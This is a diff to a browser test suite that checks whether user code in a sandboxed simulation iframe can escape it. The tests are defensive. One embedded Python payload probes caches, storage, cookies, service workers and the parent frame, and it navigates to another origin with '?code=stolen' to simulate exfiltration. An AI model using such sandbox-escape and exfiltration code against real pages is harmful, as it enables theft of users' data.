@@ -70,7 +70,7 @@ def test_a_link_to_original_sets_the_saved_code_aside_and_restore_brings_it_back
     assert "(1.0 + a)" in page.locator(".cm-content").inner_text()  # back in the editor, not run
     assert page.evaluate("localStorage.getItem('%s')" % KEY) == BROKEN_SIGMOID
     assert page.locator("#restore-code").is_hidden()
-    assert _sim_frame(page).evaluate("() => window.backpropSim.state().rules") is None  # still the original
+    assert _sim_frame(page).evaluate("() => window.backpropSim.state().rules.original")  # still the original
     assert _run(page, BROKEN_SIGMOID) == "mismatch"
     # Reset to original keeps it one step back too
     page.click("#reset-code")
@@ -99,7 +99,7 @@ tried("worker", lambda: js.navigator.serviceWorker.register("../sw.js"))
 tried("top", lambda: setattr(js.window.top.location, "href", "%(other)s/?code=stolen"))
 tried("parent", lambda: js.window.parent.document.body)
 js.window.attackReport = "; ".join(report)
-js.setTimeout(create_once_callable(lambda: setattr(js.location, "href", "%(other)s/?code=stolen-by-the-frame")), 300)
+js.setTimeout(create_once_callable(lambda: setattr(js.location, "href", "%(other)s/?code=stolen-by-the-frame")), 2500)
 '''
 
 
@@ -112,11 +112,13 @@ def test_the_issues_attacks_run_in_a_box_and_reach_nothing(visit, server, tmp_pa
         assert _result(page) == "ok"
         frame = next(f for f in page.frames if f.parent_frame is not None)
         assert frame.evaluate("window.origin") == "null"  # an opaque origin
-        _run(page, ATTACK % {"other": other.origin})
+        outcome = _run(page, ATTACK % {"other": other.origin})
         report = frame.evaluate("window.attackReport")
+        assert report, (outcome, page.locator("#result").inner_text())
+        print("attack report:", report)
         for reach in ("caches", "storage", "cookie", "worker", "top", "parent"):
             assert f"{reach}: allowed" not in report or reach == "top", report
-        page.wait_for_timeout(1500)  # the frame's own navigation, and any planted cache entry
+        page.wait_for_timeout(4000)  # the frame's own navigation (at 2.5 s), and any planted cache entry
         assert page.url == server.url("sim/edit.html")  # the top was not navigated
         assert not [u for u in v.requests if u.startswith(other.origin)], v.requests  # nothing reached the other site
         assert page.evaluate("caches.keys()").count("planted") == 0
@@ -141,7 +143,10 @@ def test_use_the_original_gives_a_fresh_interpreter(visit, server, patch):
     assert _result(page) == "ok"
     page.evaluate("(code) => window.backpropEditor.setValue(code)", SOURCE + "\n" + patch + "\n")
     page.click("#run")
-    assert _result(page) in ("ok", "mismatch", "error", "froze")
+    outcome = _result(page)
+    assert outcome in ("ok", "mismatch", "error", "froze")
+    if outcome == "froze":  # the patch broke the frame's own Python: the watchdog gave a new one
+        assert _result(page) == "not-run"
     page.click("#reset-code")
     wait_for(page, "document.documentElement.dataset.editResult === 'ok'", timeout=90_000)
     sim = _sim_frame(page)
